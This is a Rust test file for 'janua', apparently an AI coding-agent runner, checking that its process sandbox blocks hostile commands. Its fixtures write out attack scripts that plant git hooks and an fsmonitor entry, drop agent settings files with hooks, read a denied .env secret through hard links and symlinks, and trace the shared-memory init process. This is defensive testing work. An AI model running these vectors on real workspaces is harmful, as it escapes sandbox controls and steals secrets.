        2,
        "both files read as empty: {text}"
    );
    assert_eq!(text.matches("Read-only file system").count(), 4, "{text}");
    assert!(text.contains("Invalid cross-device link"), "{text}");
    assert_eq!(
        std::fs::read_to_string(ws.join("src/main.rs")).unwrap(),
        "fn main() {}\n"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join(".git/config")).unwrap(),
        "[core]\n"
    );
    for absent in [".git/hooks/pre-commit", "gc", ".janua/settings.local.json"] {
        assert!(!ws.join(absent).exists(), "{absent} was created");
    }

    // Controls: without the deny rules the secrets are read and src/ changes; without the
    // process sandbox the protected paths change too.
    let text = bash_through_janua(&fixture, &[], &command);
    assert!(
        text.contains("TOP-SECRET-ENV") && text.contains("DEEP-SECRET-ENV"),
        "{text}"
    );
    assert!(
        std::fs::read_to_string(ws.join("src/main.rs"))
            .unwrap()
            .ends_with("// changed")
    );
    assert!(!ws.join(".git/hooks/pre-commit").exists());
    let text = bash_through_janua(&fixture, &["--unsandboxed-process"], &command);
    assert!(ws.join(".git/hooks/pre-commit").exists(), "{text}");
    assert!(ws.join(".janua/settings.local.json").exists(), "{text}");
}

/// Issue 31, point 5: a command creates IPv4, IPv6 and route-netlink sockets only (`AF_UNIX`,
/// `AF_VSOCK`, `AF_PACKET`, audit netlink refused), and a System V message queue it makes lives
/// in its own IPC namespace: the host never sees it. Controls: with the process sandbox off the
/// same command creates a Unix socket (and a vsock one where the host can) and leaves a queue
/// the host sees.
#[test]
fn socket_families_and_ipc_objects_stay_inside_the_command() {
    let fixture = Fixture::new();
    fixture.write(
        "sock.py",
        "import socket\n\
         for name, family, kind, proto in [('inet', 2, 1, 0), ('inet6', 10, 1, 0), ('route', 16, 3, 0), ('audit', 16, 3, 9), ('unix', 1, 1, 0), ('vsock', 40, 1, 0), ('packet', 17, 3, 0)]:\n\
         \x20   try:\n\
         \x20       socket.socket(family, kind, proto).close(); print(name, 'created')\n\
         \x20   except OSError as error:\n\
         \x20       print(name, 'refused', error.errno)\n",
    );
    let command = "python3 sock.py; ipcmk -Q";
    let text = bash_through_janua(&fixture, &[], command);
    for created in ["inet created", "inet6 created", "route created"] {
        assert!(text.contains(created), "{created}: {text}");
    }
    for refused in ["audit", "unix", "vsock", "packet"] {
        assert!(
            text.contains(&format!("{refused} refused 13")),
            "{refused}: {text}"
        );
    }
    let queue = |text: &str| {
        text.lines()
            .find_map(|line| line.strip_prefix("Message queue id: "))
            .map(|id| id.trim().to_owned())
            .unwrap_or_else(|| panic!("no queue made: {text}"))
    };
    let host_sees = |id: &str| {
        let output = Command::new("ipcs")
            .args(["-q", "-i", id])
            .output()
            .unwrap();
        String::from_utf8_lossy(&output.stdout).contains(&format!("msqid={id}"))
    };
    let inside = queue(&text);
    assert!(
        !host_sees(&inside),
        "the command's queue {inside} reached the host"
    );

    let text = bash_through_janua(&fixture, &["--unsandboxed-process"], command);
    assert!(text.contains("unix created"), "{text}");
    // SAFETY: socket/close on a descriptor this test owns.
    let host_vsock = unsafe {
        let fd = libc::socket(libc::AF_VSOCK, libc::SOCK_STREAM, 0);
        fd >= 0 && libc::close(fd) == 0
    };
    if host_vsock {
        assert!(text.contains("vsock created"), "{text}");
    }
    let outside = queue(&text);
    assert!(host_sees(&outside), "the unsandboxed queue is the host's");
    let removed = Command::new("ipcrm")
        .args(["-q", &outside])
        .status()
        .unwrap();
    assert!(removed.success());
}

/// Issue 31, point 3: a hard link made to a `Read`-denied file (here by the test, as an earlier
/// command could) is as hidden as the file, for the WebAssembly Read tool and for any program
/// in Bash. Controls: without the rule both read the secret through the link.
#[test]
fn a_hard_link_to_a_denied_file_is_as_hidden_as_the_file() {
    let fixture = Fixture::new();
    let ws = fixture.workspace();
    fixture.write(".env", "LINKED-SECRET\n");
    std::fs::create_dir_all(ws.join("notes")).unwrap();
    std::fs::hard_link(ws.join(".env"), ws.join("notes/innocent.txt")).unwrap();
    let read = |args: &[&str]| {
        let output = Command::new(janua_bin())
            .args(["--no-user-settings"])
            .args(args)
            .args([
                "call",
                "Read",
                "--input",
                r#"{"file_path": "notes/innocent.txt"}"#,
            ])
            .arg("--state-dir")
            .arg(fixture.state_dir())
            .arg("--cache-dir")
            .arg(cache_dir())
            .current_dir(&ws)
            .output()
            .unwrap();
        String::from_utf8_lossy(&output.stdout).into_owned()
    };
    let python = "python3 -c 'print(repr(open(\"notes/innocent.txt\").read()))' 2>&1";
    let denied = ["--disallowedTools", "Read(.env)"];

    let text = read(&denied);
    assert!(!text.contains("LINKED-SECRET"), "{text}");
    let text = bash_through_janua(&fixture, &denied, python);
    assert!(!text.contains("LINKED-SECRET"), "{text}");
    assert!(text.contains("''"), "{text}");

    assert!(read(&[]).contains("LINKED-SECRET"));
    assert!(bash_through_janua(&fixture, &[], python).contains("LINKED-SECRET"));
}

/// Issue 31, point 2: the vectors the issue reproduced, run from a script the rule engine cannot
/// read, with `Edit(src/**)` denied: `find -delete`, `sed 'w FILE'`, `sort -uo`, `cp -t` on the
/// denied tree; a hard link to `.git/config` made earlier (as by the command that ran `git
/// init`); `pushd`, `CDPATH`, `env -C` and a symlink into `.git` to plant hooks. The kernel
/// refuses each: the tree, the config and the hooks directory are unchanged. Control in the same
/// test: without the process sandbox every vector takes effect.
#[test]
fn programs_links_and_directory_tricks_change_no_denied_or_protected_file() {
    let attack = "\
        find src -type f -delete\n\
        printf 'x\\n' | sed 'w src/main.rs'\n\
        sort -uo src/lib.rs src/lib.rs\n\
        cp -t src attack.sh\n\
        printf '[core]\\n\\tfsmonitor = evil\\n' >> gc\n\
        pushd .git && echo evil > hooks/pre-commit; popd\n\
        CDPATH=.git cd hooks && echo evil > post-checkout; cd \"$OLDPWD\"\n\
        env -C .git sh -c 'echo evil > hooks/pre-push'\n\
        ln -s .git/hooks h && echo evil > h/pre-rebase\n\
        exit 0\n";
    let prepare = || {
        let fixture = Fixture::new();
        let ws = fixture.workspace();
        fixture.write("src/main.rs", "fn main() {}\n");
        fixture.write("src/lib.rs", "b\na\n");
        fixture.write(".git/config", "[core]\n");
        std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
        std::fs::hard_link(ws.join(".git/config"), ws.join("gc")).unwrap();
        fixture.write("attack.sh", attack);
        fixture
    };
    let hooks = |fixture: &Fixture| -> Vec<String> {
        std::fs::read_dir(fixture.workspace().join(".git/hooks"))
            .unwrap()
            .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
            .collect()
    };
    let denied = ["--disallowedTools", "Edit(src/**)"];

    let fixture = prepare();
    let ws = fixture.workspace();
    // Through its input: janua cannot read the script, so only the kernel view holds the rules.
    let text = bash_through_janua(&fixture, &denied, "bash < attack.sh 2>&1");
    assert_eq!(
        std::fs::read_to_string(ws.join("src/main.rs")).unwrap(),
        "fn main() {}\n",
        "{text}"
    );
    assert_eq!(
        std::fs::read_to_string(ws.join("src/lib.rs")).unwrap(),
        "b\na\n"
    );
    assert!(!ws.join("src/attack.sh").exists(), "{text}");
    assert_eq!(
        std::fs::read_to_string(ws.join(".git/config")).unwrap(),
        "[core]\n",
        "{text}"
    );
    assert_eq!(hooks(&fixture), Vec::<String>::new(), "{text}");
    assert!(text.matches("Read-only file system").count() >= 8, "{text}");

    let fixture = prepare();
    let ws = fixture.workspace();
    // Without the view the decision alone holds the deny rules (it cannot read what bash reads
    // from its input, so it refuses the line): the control shows the attack works without them.
    let unsandboxed = ["--unsandboxed-process"];
    let text = bash_through_janua(&fixture, &unsandboxed, "bash < attack.sh 2>&1");
    // `find` emptied src/, then `sed` and `cp` wrote into it.
    assert!(!ws.join("src/lib.rs").exists(), "{text}");
    assert_eq!(
        std::fs::read_to_string(ws.join("src/main.rs")).unwrap(),
        "x\n"
    );
    assert!(ws.join("src/attack.sh").exists(), "{text}");
    assert!(
        std::fs::read_to_string(ws.join(".git/config"))
            .unwrap()
            .contains("fsmonitor"),
        "{text}"
    );
    let mut planted = hooks(&fixture);
    planted.sort();
    assert_eq!(
        planted,
        ["post-checkout", "pre-commit", "pre-push", "pre-rebase"],
        "{text}"
    );
}

/// Issue 31, point 2: protected paths below the top of the workspace are read-only too, where
/// they exist: the hooks and configuration of a submodule's repository (`.git/modules/...`,
/// which `git status` above runs), of a nested repository, and a nested `.envrc`. Control: with
/// the process sandbox off the same script plants every one.
#[test]
fn protected_paths_of_submodules_nested_repositories_and_subdirectories_are_read_only() {
    let targets = [
        ".git/modules/libs/core/config",
        ".git/modules/libs/core/hooks/post-checkout",
        ".git/modules/libs/core/modules/inner/hooks/pre-commit",
        "vendor/tool/.git/config",
        "vendor/tool/.git/hooks/pre-commit",
        "packages/app/web/.envrc",
    ];
    let attack = targets
        .iter()
        .map(|target| format!("echo evil >> {target} 2>/dev/null && echo planted {target}\n"))
        .collect::<String>()
        // A directory above a read-only path renamed away, and a new one made in its place.
        + "mv vendor/tool/.git vendor/tool/g 2>/dev/null && mkdir -p vendor/tool/.git/hooks \
           && echo evil > vendor/tool/.git/hooks/pre-commit && echo planted renamed-nested\n\
           mv .git .git.old 2>/dev/null && mkdir .git && echo evil > .git/config \
           && echo planted renamed-top\n\
           exit 0\n";
    let prepare = || {
        let fixture = Fixture::new();
        for repository in [
            ".git/modules/libs/core",
            ".git/modules/libs/core/modules/inner",
            "vendor/tool/.git",
        ] {
            fixture.write(&format!("{repository}/HEAD"), "ref: refs/heads/main\n");
            fixture.write(&format!("{repository}/config"), "[core]\n");
            std::fs::create_dir_all(fixture.workspace().join(repository).join("hooks")).unwrap();
        }
        fixture.write(".git/config", "[core]\n");
        fixture.write("packages/app/web/.envrc", "export A=1\n");
        fixture.write("attack.sh", &attack);
        fixture
    };
    let fixture = prepare();
    let text = bash_through_janua(&fixture, &[], "bash < attack.sh 2>&1");
    assert!(!text.contains("planted"), "{text}");
    for target in targets {
        let path = fixture.workspace().join(target);
        let content = std::fs::read_to_string(&path).unwrap_or_default();
        assert!(!content.contains("evil"), "{target}: {text}");
    }
    let fixture = prepare();
    let text = bash_through_janua(
        &fixture,
        &["--unsandboxed-process"],
        "bash < attack.sh 2>&1",
    );
    for target in targets {
        assert!(text.contains(&format!("planted {target}")), "{text}");
    }
    assert!(text.contains("planted renamed-nested"), "{text}");
    assert!(text.contains("planted renamed-top"), "{text}");
}

/// Issue 31, point 2: mounts follow symbolic links as the rules do. A protected `.janua` that
/// links to another directory of the workspace keeps that directory read-only; replacing the
/// link with a directory of the command's own is set aside when the command ends. A
/// `Read`-denied `.env` that links to another file masks that file, under either name.
/// Control: with the process sandbox off, the secret is read and the settings are planted.
#[test]
fn protected_and_denied_symbolic_links_are_enforced_through_their_targets() {
    let prepare = || {
        let fixture = Fixture::new();
        let ws = fixture.workspace();
        fixture.write("conf/janua/settings.json", "{}\n");
        fixture.write("conf/real.env", "SECRET=hunter2\n");
        std::os::unix::fs::symlink("conf/janua", ws.join(".janua")).unwrap();
        std::os::unix::fs::symlink("conf/real.env", ws.join(".env")).unwrap();
        fixture.write(
            "attack.sh",
            "cat .env conf/real.env\n\
             echo '{\"hooks\": {}}' > conf/janua/settings.local.json 2>/dev/null && echo wrote-through\n\
             mv conf c.o 2>/dev/null && mkdir -p conf/janua && echo '{}' > conf/janua/settings.local.json && echo renamed-parent\n\
             rm .janua && mkdir .janua && echo '{\"hooks\": {}}' > .janua/settings.local.json && echo replaced\n\
             exit 0\n",
        );
        fixture
    };
    let denied = ["--disallowedTools", "Read(.env)"];
    let fixture = prepare();
    let ws = fixture.workspace();
    let text = bash_through_janua(&fixture, &denied, "bash < attack.sh 2>&1");
    assert!(!text.contains("hunter2"), "{text}");
    assert!(!text.contains("wrote-through"), "{text}");
    assert!(!text.contains("renamed-parent"), "{text}");
    assert!(
        !ws.join("conf/janua/settings.local.json").exists(),
        "{text}"
    );
    assert!(
        text.contains("replaced") && text.contains("set aside"),
        "{text}"
    );
    assert!(!ws.join(".janua/settings.local.json").exists(), "{text}");

    let fixture = prepare();
    let ws = fixture.workspace();
    // Without the view the decision alone holds the deny rules (it cannot read what bash reads
    // from its input, so it refuses the line): the control shows the attack works without them.
    let unsandboxed = ["--unsandboxed-process"];
    let text = bash_through_janua(&fixture, &unsandboxed, "bash < attack.sh 2>&1");
    assert!(text.contains("hunter2"), "{text}");
    assert!(text.contains("wrote-through"), "{text}");
    assert!(ws.join(".janua/settings.local.json").exists(), "{text}");
}

/// Issue 31, point 2: a protected path that did not exist when a command started has nothing to
/// mount on, so a command can create it (`.janua/settings.local.json` with a hook the next call
/// would run, `.mcp.json`, `.cargo/config.toml`); when the command ends janua renames each one it
/// made beside itself, contents intact, and says so. `.gitattributes`, which `git lfs track`
/// makes, stays. Control: without the process sandbox everything stays where it was made.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn protected_paths_a_command_creates_are_set_aside_when_it_ends() {
    let script = "mkdir .janua .cargo && echo '{\"hooks\": {}}' > .janua/settings.local.json \
        && echo '{}' > .mcp.json && echo '[build]' > .cargo/config.toml \
        && echo '*.bin filter=lfs' > .gitattributes && echo made";
    let made = |fixture: &Fixture, args: &[&str]| {
        fixture.write("make.sh", script);
        bash_through_janua(fixture, args, "bash < make.sh")
    };
    let fixture = Fixture::new();
    let ws = fixture.workspace();
    let text = made(&fixture, &[]);
    assert!(text.starts_with("made\n"), "{text}");
    assert!(text.contains("janua set aside protected paths"), "{text}");
    for name in [".janua", ".mcp.json", ".cargo"] {
        assert!(!ws.join(name).exists(), "{name}: {text}");
        assert!(
            text.contains(&format!("{}", ws.join(name).display())),
            "{name}: {text}"
        );
    }
    let names: Vec<String> = std::fs::read_dir(&ws)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    let aside = names
        .iter()
        .find(|name| name.starts_with(".janua.janua-set-aside-"))
        .unwrap_or_else(|| panic!("{names:?}"));
    assert_eq!(
        std::fs::read_to_string(ws.join(aside).join("settings.local.json")).unwrap(),
        "{\"hooks\": {}}\n"
    );
    assert!(ws.join(".gitattributes").exists(), "{names:?}");

    // A background task's creations are set aside when it ends, and its status says so.
    let fixture = Fixture::new();
    let ws = fixture.workspace();
    fixture.write(
        "plant.sh",
        "mkdir .claude && echo '{}' > .claude/settings.json",
    );
    let runtime = permissive(&fixture).await;
    let started = call(
        &runtime,
        "Bash",
        json!({"command": "bash < plant.sh", "run_in_background": true}),
    )
    .await;
    let task = started.outcome.structured.clone().unwrap()["backgroundTaskId"]
        .as_str()
        .unwrap()
        .to_owned();
    let ended = call(&runtime, "TaskOutput", json!({"task_id": task})).await;
    let text = ok_text(&ended);
    assert!(text.contains("janua set aside protected paths"), "{text}");
    assert!(!ws.join(".claude").exists(), "{text}");

    let fixture = Fixture::new();
    let ws = fixture.workspace();
    let text = made(&fixture, &["--unsandboxed-process"]);
    assert!(!text.contains("set aside"), "{text}");
    for name in [
        ".janua/settings.local.json",
        ".mcp.json",
        ".cargo/config.toml",
    ] {
        assert!(ws.join(name).exists(), "{name}: {text}");
    }
}

/// Issue 31, point 2: a command runs in its own PID namespace under a minimal init, not as the
/// namespace's first process, so signals it sends itself act as outside one: `kill $$` ends
/// it, `abort` aborts it, and its processes are numbered from the init's.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_command_in_its_pid_namespace_still_dies_of_its_own_signals() {
    let fixture = Fixture::new();
    let runtime = permissive(&fixture).await;
    let killed = call(&runtime, "Bash", bash("echo $$; kill $$; echo survived")).await;
    let text = error_text(&killed, ErrorKind::ToolFailed);
    assert!(text.contains("killed by signal 15"), "{text}");
    assert!(text.starts_with("2\n") || text.contains("\n2\n"), "{text}");
    assert!(!text.contains("survived"), "{text}");
    let aborted = call(
        &runtime,
        "Bash",
        bash("python3 -c 'import os; os.abort()'; echo \"status $?\""),
    )
    .await;
    assert!(
        ok_text(&aborted).contains("status 134"),
        "{}",
        ok_text(&aborted)
    );
}

/// Issue 31, point 2: the namespaces are made once per session, not per command. A server a
/// background task starts on the loopback answers the session's next command, and both run in
/// one network namespace; yet each command still has its own mount and PID namespaces (its
/// view, its processes). Another session's commands cannot reach that server, and the host's
/// loopback is another network altogether: the host binds the same port meanwhile.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_sessions_commands_share_its_loopback_but_keep_their_own_mounts_and_processes() {
    let fixture = Fixture::new();
    let runtime = permissive(&fixture).await;
    let host_side = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = host_side.local_addr().unwrap().port();
    let started = call(
        &runtime,
        "Bash",
        json!({
            "command": format!(
                "readlink /proc/self/ns/net /proc/self/ns/mnt /proc/self/ns/pid; \
                 exec python3 -m http.server {port} --bind 127.0.0.1"
            ),
            "run_in_background": true
        }),
    )
    .await;
    let task = started.outcome.structured.clone().unwrap()["backgroundTaskId"]
        .as_str()
        .unwrap()
        .to_owned();
    let fetch = format!(
        "for i in $(seq 100); do \
           python3 -c 'import urllib.request; print(\"status\", urllib.request.urlopen(\"http://127.0.0.1:{port}/\").status)' 2>/dev/null && break; \
           sleep 0.05; \
         done; \
         readlink /proc/self/ns/net /proc/self/ns/mnt /proc/self/ns/pid"
    );
    let namespaces = |text: &str| -> Vec<String> {
        text.lines()
            .filter(|line| line.contains(":["))
            .map(str::to_owned)
            .collect()
    };
    let first = call(&runtime, "Bash", bash(&fetch)).await;
    let first = ok_text(&first);
    assert!(first.contains("status 200"), "{first}");
    let second = call(&runtime, "Bash", bash(&fetch)).await;
    let second = ok_text(&second);
    assert!(second.contains("status 200"), "{second}");
    // The server's task still runs, so its namespaces' numbers cannot have been reused.
    let serving = call(
        &runtime,
        "TaskOutput",
        json!({"task_id": task, "block": false}),
    )
    .await;
    let serving = namespaces(&ok_text(&serving));
    let (first, second) = (namespaces(&first), namespaces(&second));
    assert_eq!(serving.len(), 3, "{serving:?}");
    assert_eq!(first.len(), 3, "{first:?}");
    assert_eq!(first[0], serving[0], "one network namespace per session");
    assert_eq!(second[0], serving[0], "one network namespace per session");
    assert_ne!(first[1], serving[1], "a mount namespace per command");
    assert_ne!(first[2], serving[2], "a PID namespace per command");

    let other_fixture = Fixture::new();
    let other = permissive(&other_fixture).await;
    let elsewhere = call(&other, "Bash", bash(&fetch.replace("seq 100", "seq 3"))).await;
    let elsewhere = ok_text(&elsewhere);
    assert!(!elsewhere.contains("status"), "{elsewhere}");
    assert_ne!(
        namespaces(&elsewhere)[0],
        first[0],
        "another session's network"
    );
    drop(host_side);
}

/// A host that is not root makes every namespace under a user namespace, and keeps doing so
/// after its first command: a later command hook (a root of other grants, so new namespaces)
/// still starts, and Bash keeps running in the session's namespaces. Run as `nobody` through
/// `setpriv` when the test runs as root. (The waiter of a command once made the host's memory
/// non-dumpable, after which its `/proc/self` belonged to root and no later user namespace could
/// be given its id maps: the hook failed to start.)
#[test]
fn a_host_that_is_not_root_confines_commands_and_hooks_after_its_first_command() {
    use std::io::Write as _;
    use std::os::unix::fs::PermissionsExt as _;
    let root = tempfile::tempdir().unwrap();
    let open_to_all = |path: &std::path::Path| {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o777)).unwrap();
    };
    open_to_all(root.path());
    let workspace = root.path().join("workspace");
    for dir in ["workspace", "state", "cache", "home"] {
        std::fs::create_dir(root.path().join(dir)).unwrap();
        open_to_all(&root.path().join(dir));
    }
    std::fs::write(workspace.join("notes.txt"), "notes\n").unwrap();
    open_to_all(&workspace.join("notes.txt"));
    // SAFETY: geteuid cannot fail.
    let as_root = unsafe { libc::geteuid() } == 0;
    let mut command = if as_root {
        let mut command = Command::new("setpriv");
        command.args(["--reuid=65534", "--regid=65534", "--clear-groups"]);
        command.arg(janua_bin());
        command
    } else {
        Command::new(janua_bin())
    };
    let hook = json!({"hooks": {"PreToolUse": [{"matcher": "Read", "hooks": [
        {"type": "command", "command": "echo hook-ran >&2; exit 2"}]}]}})
    .to_string();
    command
        .args(["--no-user-settings", "run", "--allowedTools", "Bash,Read"])
        .args(["--settings", &hook, "--state-dir"])
        .arg(root.path().join("state"))
        .arg("--cache-dir")
        .arg(root.path().join("cache"))
        .env("HOME", root.path().join("home"))
        .current_dir(&workspace)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped());
    let mut child = command.spawn().unwrap();
    let calls = [
        json!({"type": "tool_use", "id": "a", "name": "Bash",
               "input": {"command": "id -u; readlink /proc/self/ns/user"}}),
        json!({"type": "tool_use", "id": "b", "name": "Read", "input": {"file_path": "notes.txt"}}),
        json!({"type": "tool_use", "id": "c", "name": "Bash", "input": {"command": "echo again"}}),
    ];
    {
        let mut stdin = child.stdin.take().unwrap();
        for call in calls {
            writeln!(stdin, "{call}").unwrap();
        }
    }
    let output = child.wait_with_output().unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    let results: Vec<String> = stdout
        .lines()
        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
        .filter(|line| line["type"] == "user")
        .filter_map(|line| {
            line["message"]["content"][0]["content"]
                .as_str()
                .map(str::to_owned)
        })
        .collect();
    assert_eq!(results.len(), 3, "{stdout}");
    let own_user_namespace = std::fs::read_link("/proc/self/ns/user").unwrap();
    let first: Vec<&str> = results[0].lines().collect();
    if as_root {
        assert_eq!(first[0], "65534", "{stdout}");
    }
    assert_ne!(
        first[1],
        own_user_namespace.to_string_lossy(),
        "a user namespace of its own"
    );
    assert!(
        results[1].contains("hook-ran"),
        "the hook started: {stdout}"
    );
    assert_eq!(results[2], "again\n", "{stdout}");
}

/// The namespace's init shares the host's memory, so a command must never reach it: `ptrace`,
/// `process_vm_readv` and `pidfd_getfd` on process 1 fail with `EPERM` (Landlock refuses them
/// outside the command's domain; before, `PTRACE_ATTACH` on it succeeded and could have written
/// the host's memory). Control in the same command: it can still trace a child of its own.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_command_cannot_trace_or_read_the_init_that_shares_the_hosts_memory() {
    let fixture = Fixture::new();
    let runtime = permissive(&fixture).await;
    let script = r#"
import ctypes, os, signal, time
libc = ctypes.CDLL(None, use_errno=True)
def report(name, result):
    print(name, "ok" if result != -1 else os.strerror(ctypes.get_errno()))
report("attach-init", libc.ptrace(16, 1, 0, 0))
class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(8)
local = IoVec(ctypes.cast(buffer, ctypes.c_void_p), 8)
remote = IoVec(0x400000, 8)
report("read-init", libc.process_vm_readv(1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
pidfd = os.pidfd_open(1)
report("getfd-init", libc.syscall(438, pidfd, 0, 0))
child = os.fork()
if child == 0:
    time.sleep(5)
    os._exit(0)
report("attach-own-child", libc.ptrace(16, child, 0, 0))
os.kill(child, signal.SIGKILL)
"#;
    fixture.write("probe.py", script);
    let result = call(&runtime, "Bash", bash("python3 probe.py")).await;
    let text = ok_text(&result);
    for line in ["attach-init", "read-init", "getfd-init"] {
        assert!(
            text.contains(&format!("{line} Operation not permitted")),
            "{text}"
        );
    }
    assert!(text.contains("attach-own-child ok"), "{text}");
}

/// Answers every permission request "allow always".
struct AllowAlways;

impl janua::Prompter for AllowAlways {
    fn ask(&self, _request: &janua::PermissionRequest) -> janua::PromptAnswer {
        janua::PromptAnswer::AllowAlways
    }
}

/// What janua itself makes under a protected path while a command runs (`--save-approvals`
/// creating `.janua/settings.local.json`) is not set aside when that command ends: only what a
/// command made is.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_settings_file_janua_saves_while_a_task_runs_stays_in_place() {
    let fixture = Fixture::new();
    let mut runtime = fixture
        .runtime(&[], |config| {
            config.save_approvals = true;
            config.allowed_tools = vec!["Bash(sleep *)".to_owned()];
        })
        .await;
    runtime.set_prompter(std::sync::Arc::new(AllowAlways));
    let started = call(
        &runtime,
        "Bash",
        json!({"command": "sleep 1.5", "run_in_background": true}),
    )
    .await;
    let task = started.outcome.structured.clone().unwrap()["backgroundTaskId"]
        .as_str()
        .unwrap()
        .to_owned();
    let approved = call(&runtime, "Bash", bash("touch approved.txt")).await;
    ok_text(&approved);
    let saved = fixture.workspace().join(".janua/settings.local.json");
    assert!(saved.exists(), "--save-approvals wrote the local settings");
    let ended = call(&runtime, "TaskOutput", json!({"task_id": task})).await;
    let text = ok_text(&ended);
    assert!(text.contains("exited with code 0"), "{text}");
    assert!(!text.contains("set aside"), "{text}");
    assert!(saved.exists(), "janua's own file was set aside: {text}");
}

/// Issue 31, points 2 and 5: a command's root holds only what its grants reach. Outside them a
/// file has no name, metadata or inotify events (`stat`, `inotify_add_watch`: no such file,
/// where Landlock alone let both through); a readable directory is a read-only bind, so `chmod`
/// (setuid too), `touch -d` and `setxattr` fail; and host processes are not there to signal or
/// open a pidfd on. Control in the same test: without the process sandbox every one succeeds.
#[test]
fn outside_files_are_absent_readable_ones_unchangeable_and_host_processes_unseen() {
    let fixture = Fixture::new();
    let extra = fixture.outside().join("extra");
    std::fs::create_dir_all(&extra).unwrap();
    let tool = extra.join("tool.sh");
    std::fs::write(&tool, "#!/bin/sh\necho tool\n").unwrap();
    let secret = fixture.outside().join("secret.txt");
    let private = fixture.outside().join("private");
    std::fs::create_dir_all(&private).unwrap();
    /// Kills the host's process however the test ends.
    struct Reaped(std::process::Child);
    impl Drop for Reaped {
        fn drop(&mut self) {
            let _ = self.0.kill();
            let _ = self.0.wait();
        }
    }
    let host = Reaped(
        Command::new("sleep")
            .arg("1000.606")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let host_pid = host.0.id();
    let settings = json!({"permissions": {"additionalDirectories": [extra]}}).to_string();
    let args = ["--settings", settings.as_str()];
    let tool = tool.display();
    let command = format!(
        "sh {tool}; \
         chmod 700 {tool} 2>&1 | tail -1; \
         touch -d 2001-01-01 {tool} 2>&1 | tail -1; \
         python3 -c 'import os; os.setxattr(\"{tool}\", \"user.planted\", b\"1\"); print(\"xattr set\")' 2>&1 | tail -1; \
         stat -c 'size %s' {secret} 2>&1 | tail -1; \
         python3 -c 'import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); fd = libc.inotify_init(); print(\"watch\", libc.inotify_add_watch(fd, b\"{outside}\", 0x100), ctypes.get_errno())'; \
         kill -0 {host_pid} 2>&1 | tail -1; \
         python3 -c 'import os; os.pidfd_open({host_pid}); print(\"pidfd opened\")' 2>&1 | tail -1",
        secret = secret.display(),
        outside = private.display(),
    );
    let metadata = || std::fs::metadata(extra.join("tool.sh")).unwrap();
    let before = metadata();

    let text = bash_through_janua(&fixture, &args, &command);
    assert!(
        text.starts_with("tool\n"),
        "the readable directory is there: {text}"
    );
    assert_eq!(text.matches("Read-only file system").count(), 3, "{text}");
    assert!(text.contains("No such file or directory"), "stat: {text}");
    assert!(!text.contains("size 18"), "{text}");
    assert!(text.contains("watch -1 2\n"), "inotify: {text}");
    assert!(text.contains("No such process"), "kill: {text}");
    assert!(text.contains("ProcessLookupError"), "pidfd: {text}");
    let after = metadata();
    use std::os::unix::fs::MetadataExt as _;
    assert_eq!(after.mode(), before.mode());
    assert_eq!(after.mtime(), before.mtime());
    let xattr = Command::new("python3")
        .args(["-c", "import os, sys; print(os.listxattr(sys.argv[1]))"])
        .arg(extra.join("tool.sh"))
        .output()
        .unwrap();
    assert_eq!(String::from_utf8_lossy(&xattr.stdout), "[]\n");

    let mut unsandboxed = vec!["--unsandboxed-process"];
    unsandboxed.extend(args);
    let text = bash_through_janua(&fixture, &unsandboxed, &command);
    assert!(text.contains("xattr set"), "{text}");
    assert!(text.contains("size 18"), "{text}");
    assert!(text.contains("pidfd opened"), "{text}");
    assert!(!text.contains("watch -1"), "{text}");
    assert_ne!(metadata().mode(), before.mode());
    drop(host);
}

/// Issue 31, point 4: a crate with a dependency already in the host's cargo cache builds and
/// runs offline inside the sandbox (rustup's toolchain and `CARGO_HOME` readable, never
/// writable), when the host itself can build it offline (the control, run first).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cargo_builds_offline_with_a_cached_dependency_in_the_sandbox() {
    let lock = include_str!("../../Cargo.lock");
    let itoa = lock
        .split("[[package]]")
        .find(|package| package.contains("name = \"itoa\""))
        .and_then(|package| {
            package
                .lines()
                .find_map(|line| line.strip_prefix("version = "))
        })
        .expect("itoa is in the workspace's lock file")
        .trim_matches('"')
        .to_owned();
    let fixture = Fixture::new();
    fixture.write(
        "Cargo.toml",
        format!(
            "[package]\nname = \"probe\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nitoa = \"={itoa}\"\n"
        ),
    );
    fixture.write(
        "src/main.rs",
        "fn main() { println!(\"{}\", itoa::Buffer::new().format(42)); }\n",
    );
    let control = Command::new("cargo")
        .args(["run", "-q", "--offline"])
        .current_dir(fixture.workspace())
        .env_remove("CARGO_TARGET_DIR")
        .output();
    let Some(control) = control.ok().filter(|output| output.status.success()) else {
        return;
    };
    assert_eq!(String::from_utf8_lossy(&control.stdout), "42\n");
    std::fs::remove_dir_all(fixture.workspace().join("target")).unwrap();
    let runtime = permissive(&fixture).await;
    let result = call(
        &runtime,
        "Bash",
        json!({"command": "cargo run -q --offline 2>&1", "timeout": 300_000}),
    )
    .await;
    assert_eq!(ok_text(&result), "42\n");
}

/// Copies the directory `from` to `to`, recursively (regular files and directories).
fn copy_tree(from: &std::path::Path, to: &std::path::Path) {
    std::fs::create_dir_all(to).unwrap();
    for entry in std::fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        let target = to.join(entry.file_name());
        if entry.file_type().unwrap().is_dir() {
            copy_tree(&entry.path(), &target);
        } else {
            std::fs::copy(entry.path(), &target).unwrap();
        }
    }
}

/// Issue 31, point 4: everyday test runners work in a sample workspace under the sandbox
/// (`npm test`, `python3 -m unittest`, and `python3 -m pytest` with the pinned pytest that
